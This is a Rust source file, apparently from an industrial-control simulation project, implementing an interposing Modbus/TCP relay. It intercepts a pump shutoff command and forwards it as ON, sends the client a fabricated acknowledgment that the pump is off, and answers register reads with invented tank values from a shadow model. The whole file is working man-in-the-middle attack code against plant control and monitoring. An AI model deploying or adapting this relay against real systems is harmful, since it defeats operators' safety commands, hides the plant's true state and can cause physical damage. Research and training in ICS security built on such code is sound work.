//! Interposing Modbus/TCP relay.
//!
//! Each accepted client connection gets exactly one upstream connection
//! to the real server and a fresh [`SpoofRules`] instance. Frames are
//! relayed in strict request/response alternation; the relay assumes
//! each socket read yields a whole ADU, which holds for the framed
//! reader in `twin_protocol::net` as long as peers speak one
//! transaction at a time.

use std::net::SocketAddr;
use std::time::Instant;

use tokio::net::{TcpListener, TcpStream};
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use twin_model::SimulationConfig;
use twin_protocol::constants::{
    FC_READ_COILS, FC_READ_DISCRETE_INPUTS, FC_READ_HOLDING_REGISTERS,
};
use twin_protocol::frame::{CoilState, Direction, ModbusAdu, Pdu};
use twin_protocol::net::{read_frame, write_frame};
use twin_protocol::Result;

use crate::shadow::ShadowModel;

/// Per-connection spoof state.
///
/// `spoofing` starts false and latches on the first Write-Single-Coil
/// OFF request; from then on the pump is never really shut off, the
/// client is shown fabricated acknowledgments, and register reads are
/// answered from the shadow model instead of the plant.
pub struct SpoofRules {
    spoofing: bool,
    shadow: ShadowModel,
}

impl SpoofRules {
    pub fn new(config: SimulationConfig) -> Self {
        Self {
            spoofing: false,
            shadow: ShadowModel::new(config),
        }
    }

    pub fn spoofing(&self) -> bool {
        self.spoofing
    }

    /// Rewrites a client request before it goes upstream.
    ///
    /// The first OFF command latches `spoofing`; that request and every
    /// later OFF command are forwarded as ON.
    pub fn transform_request(&mut self, mut adu: ModbusAdu, now: Instant) -> ModbusAdu {
        if let Pdu::WriteSingleCoil { value, .. } = &mut adu.pdu {
            if !value.is_on() {
                if !self.spoofing {
                    self.spoofing = true;
                    self.shadow.start(now);
                    info!("Pump shutoff command intercepted, spoofing from here on");
                }
                *value = CoilState::On;
            }
        }
        adu
    }

    /// Rewrites a server response before it reaches the client.
    pub fn transform_response(&mut self, mut adu: ModbusAdu, now: Instant) -> ModbusAdu {
        if adu.pdu.is_exception() {
            return adu;
        }

        if !self.spoofing {
            // Quiet phase: learn the tank state as it flows past.
            match &adu.pdu {
                Pdu::ReadRegistersResponse { function, registers }
                    if *function == FC_READ_HOLDING_REGISTERS =>
                {
                    self.shadow.observe_registers(registers);
                },
                Pdu::ReadBitsResponse { function, bits } if *function == FC_READ_COILS => {
                    self.shadow.observe_coils(bits);
                },
                Pdu::ReadBitsResponse { function, bits }
                    if *function == FC_READ_DISCRETE_INPUTS =>
                {
                    self.shadow.observe_inputs(bits);
                },
                _ => {},
            }
            return adu;
        }

        match &mut adu.pdu {
            // The server honestly acks ON; tell the client its OFF stuck.
            Pdu::WriteSingleCoil { value, .. } if value.is_on() => {
                *value = CoilState::Off;
            },
            Pdu::ReadRegistersResponse { function, registers }
                if *function == FC_READ_HOLDING_REGISTERS =>
            {
                match self.shadow.registers_at(now) {
                    Some(fabricated) => {
                        let count = registers.len();
                        *registers = (0..count)
                            .map(|i| fabricated.get(i).copied().unwrap_or(0))
                            .collect();
                    },
                    None => {
                        warn!("Shadow model not seeded, register response passed through");
                    },
                }
            },
            // Coil and discrete-input reads stay honest; extend here to
            // spoof them as well.
            _ => {},
        }
        adu
    }
}

/// Accept loop: one relay task per client connection.
pub async fn serve(
    listener: TcpListener,
    upstream: SocketAddr,
    config: SimulationConfig,
    cancel: CancellationToken,
) {
    loop {
        let (stream, peer) = tokio::select! {
            _ = cancel.cancelled() => break,
            accepted = listener.accept() => match accepted {
                Ok(pair) => pair,
                Err(e) => {
                    warn!("Accept failed: {e}");
                    continue;
                },
            },
        };

        info!(%peer, "Client connected");
        let config = config.clone();
        let cancel = cancel.clone();
        tokio::spawn(async move {
            if let Err(e) = relay(stream, upstream, config, cancel).await {
                warn!(%peer, "Relay ended with error: {e}");
            }
            info!(%peer, "Client disconnected");
        });
    }
}

/// Relays one client connection against one upstream connection.
async fn relay(
    mut client: TcpStream,
    upstream: SocketAddr,
    config: SimulationConfig,
    cancel: CancellationToken,
) -> Result<()> {
    let mut server = TcpStream::connect(upstream).await?;
    let mut rules = SpoofRules::new(config);

    loop {
        let frame = tokio::select! {
            _ = cancel.cancelled() => break,
            read = read_frame(&mut client) => match read? {
                Some(frame) => frame,
                None => break,
            },
        };

        let request = ModbusAdu::parse(&frame, Direction::Request)?;
        debug!(tx = request.transaction_id, fc = request.pdu.function_code(), "Request");
        let request = rules.transform_request(request, Instant::now());
        write_frame(&mut server, &request.serialize()).await?;

        let Some(frame) = read_frame(&mut server).await? else {
            break;
        };
        let response = ModbusAdu::parse(&frame, Direction::Response)?;
        let response = rules.transform_response(response, Instant::now());
        write_frame(&mut client, &response.serialize()).await?;
    }

    Ok(())
}
